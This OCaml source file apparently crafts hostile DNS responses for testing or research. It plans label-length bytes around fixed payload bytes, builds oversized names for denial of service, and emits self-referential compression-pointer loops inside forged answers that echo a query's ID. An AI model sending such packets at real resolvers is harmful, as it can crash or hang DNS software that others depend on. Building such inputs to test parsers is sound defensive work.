type byte_spec = Fixed of char | Any

let spec_fixed s = Array.init (String.length s) (fun i -> Fixed s.[i])
let spec_any n = Array.make n Any
let spec_concat specs = Array.concat specs

let default_fill = '\xAA' (* the paper's garbage byte *)

let realize spec =
  String.init (Array.length spec) (fun i ->
      match spec.(i) with Fixed c -> c | Any -> default_fill)

(* Dynamic programme over boundary positions.  [next.(p)] records the label
   length chosen at boundary [p] on some feasible path to the end. *)
let plan_labels ?(label_max = 191) spec =
  if label_max < 1 || label_max > 191 then
    invalid_arg "Craft.plan_labels: label_max must be in [1, 191]";
  let n = Array.length spec in
  if n = 0 then Ok "\x00"
  else begin
    let next = Array.make (n + 1) (-1) in
    let feasible = Array.make (n + 1) false in
    feasible.(n) <- true;
    let lengths_at p =
      (* A boundary byte is the label length: its value is forced when the
         spec fixes that byte. *)
      match spec.(p) with
      | Fixed c ->
          let l = Char.code c in
          if l >= 1 && l <= label_max then [ l ] else []
      | Any ->
          (* Prefer long labels: fewer forced bytes downstream. *)
          List.init label_max (fun i -> label_max - i)
    in
    for p = n - 1 downto 0 do
      let rec try_lengths = function
        | [] -> ()
        | l :: rest ->
            if p + 1 + l <= n && feasible.(p + 1 + l) then begin
              feasible.(p) <- true;
              next.(p) <- l
            end
            else try_lengths rest
      in
      try_lengths (lengths_at p)
    done;
    if not feasible.(0) then
      Error
        "no label layout: a run of fixed bytes leaves no room for a length \
         byte"
    else begin
      let out = Bytes.create (n + 1) in
      Array.iteri
        (fun i b ->
          Bytes.set out i (match b with Fixed c -> c | Any -> default_fill))
        spec;
      let rec place p =
        if p < n then begin
          let l = next.(p) in
          Bytes.set out p (Char.chr l);
          place (p + 1 + l)
        end
      in
      place 0;
      Bytes.set out n '\x00';
      Ok (Bytes.to_string out)
    end
  end

let dos_name ~size =
  let buf = Buffer.create (size + 64) in
  while Buffer.length buf <= size do
    Buffer.add_char buf '\x3F';
    Buffer.add_string buf (String.make 63 'A')
  done;
  Buffer.add_char buf '\x00';
  Buffer.contents buf

(* The name is a single compression pointer whose target is its own offset
   within the answer record.  [hostile_response] places the answer name at
   a fixed offset: header (12) + question; the caller of this function is
   [hostile_response] itself via lazy offset patching, so instead we emit a
   pointer to offset 12 (the question name) prefixed by a label that points
   back — simplest robust loop: pointer at message offset X targeting X. *)
let pointer_loop_placeholder = "\xC0\xFF"

let pointer_loop_name () = pointer_loop_placeholder

let hostile_response_into a ~query ?(ttl = 300) ?(rdata = "\x7F\x00\x00\x01")
    ~raw_name () =
  let q =
    match query.Packet.questions with
    | q :: _ -> q
    | [] -> invalid_arg "Craft.hostile_response: query has no question"
  in
  Wire.reset a;
  Wire.add_u16 a query.Packet.header.Packet.id;
  (* QR=1, opcode echoed, RD echoed, RA=1, rcode 0. *)
  let flags =
    (1 lsl 15)
    lor ((query.Packet.header.Packet.opcode land 0xF) lsl 11)
    lor ((if query.Packet.header.Packet.rd then 1 else 0) lsl 8)
    lor (1 lsl 7)
  in
  Wire.add_u16 a flags;
  Wire.add_u16 a 1 (* qdcount *);
  Wire.add_u16 a 1 (* ancount *);
  Wire.add_u16 a 0;
  Wire.add_u16 a 0;
  Wire.add_string a (Name.encode q.Packet.qname);
  Wire.add_u16 a (Packet.qtype_code q.Packet.qtype);
  Wire.add_u16 a 1;
  (* Answer record: attacker-controlled owner name. *)
  let name_off = Wire.length a in
  let raw_name =
    if raw_name == pointer_loop_placeholder then
      (* Self-referential pointer: 0xC0 | high bits of own offset. *)
      String.init 2 (fun i ->
          if i = 0 then Char.chr (0xC0 lor ((name_off lsr 8) land 0x3F))
          else Char.chr (name_off land 0xFF))
    else raw_name
  in
  Wire.add_string a raw_name;
  Wire.add_u16 a (Packet.qtype_code Packet.A);
  Wire.add_u16 a 1;
  Wire.add_u32 a ttl;
  Wire.add_u16 a (String.length rdata);
  Wire.add_string a rdata

let hostile_response ~query ?ttl ?rdata ~raw_name () =
  let a = Wire.arena ~capacity:256 () in
  hostile_response_into a ~query ?ttl ?rdata ~raw_name ();
  Wire.contents a
